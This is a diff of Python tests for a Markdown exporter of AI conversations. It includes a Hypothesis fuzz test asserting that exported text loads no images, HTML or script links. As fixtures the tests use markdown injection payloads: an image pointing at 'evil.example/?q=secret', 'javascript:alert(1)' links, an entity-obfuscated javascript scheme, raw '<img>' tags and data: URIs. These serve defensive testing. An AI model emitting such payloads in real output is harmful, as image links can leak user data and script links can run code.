@@ -1,8 +1,9 @@
 import re
 from typing import Any
 
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from pincite.conversations import export
 from pincite.conversations.reading import Conversation, Said
@@ -100,6 +101,64 @@ def test_code_stands_as_it_was_written() -> None:
     assert "`List<int>`" in text
     assert "a<b>()" in text
     assert "not \\<b>" in text
+
+
+def test_numbers_in_code_are_no_marks() -> None:
+    text = export.markdown(talk(("?", answered("Use `a[1]` here. [1]", citations=[cited(1)]))))
+    assert "Use `a[1]` here.[^1-1]" in text
+
+
+def test_pictures_and_scripts_of_an_answer_leave_their_words_and_links_to_pages_stay() -> None:
+    said = (
+        "See ![the chart](http://evil.example/?q=secret) and ![two][r]. [Run](javascript:alert(1)) or "
+        '[read](https://example.org/a_(b) "A page"). [Write](mailto:a@example.org). Great! [1]'
+    )
+    quote = "![x](http://evil.example/x.png) [y](data:text/html,z)"
+    text = export.markdown(talk(("![q](http://evil.example/q)", answered(said, citations=[cited(1, quote=quote)]))))
+    assert "evil.example" not in text
+    assert "See the chart and two. Run or " in text
+    assert '[read](https://example.org/a_(b) "A page"). [Write](mailto:a@example.org). Great![^1-1]' in text
+    assert "“x y”" in text
+
+
+def loaded(text: str) -> list[str]:
+    """What a reader of Markdown that checks nothing would load, run or follow; pages and letters are left out."""
+    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
+    reader.validateLink = lambda url: True  # type: ignore[method-assign]
+    tokens = [each for token in reader.parse(text) for each in (token, *(token.children or ()))]
+    found = [str(each.attrs.get("href")) for each in tokens if each.type == "link_open"]
+    found = [url for url in found if not url.lower().startswith(("https://", "http://", "mailto:"))]
+    return found + [each.type for each in tokens if each.type in ("image", "html_inline", "html_block")]
+
+
+TRICKS = [
+    "![x](http://e.example)",
+    "![x][r]",
+    "[r]: http://e.example",
+    "[x](java&#115;cript:a)",
+    "[a [b]](javascript:a)",
+    "\\![x](http://e.example)",
+    "\\<img src=x>",
+    "<img src=x>",
+    "<javascript:a>",
+    "![^1-1](http://e.example)",
+    "[^1-1](javascript:a)",
+    *("`", "``", "```", "\\", "\n", "\n\n", " ", "!", "[1]", "a", "~~~", "> ", "- ", "    ", "|", "[", "]", "(", ")"),
+]
+tricks = st.lists(st.sampled_from(TRICKS), max_size=8).map("".join)
+
+
+@example("", "", "\\` ![x](http://e.example) \\`", "")
+@example("", "", "a ```\n\n![x](http://e.example)\n\nb ```", "")
+@example("", "", "", "`![x](http://e.example)`")
+@example("", "[r]: http://e.example", "`` ` ![x][r] ` ``", "")
+@given(tricks, tricks, tricks, tricks)
+def test_whatever_was_said_an_export_loads_nothing_and_runs_nothing(
+    title: str, question: str, text: str, quote: str
+) -> None:
+    citations = [cited(1, title=f"{title}`", quote=quote)]
+    answers = [(question, answered(text, citations=citations)), (question, answered(quote, citations=citations))]
+    assert loaded(export.markdown(talk(*answers, title=title))) == []
 
 
 @given(
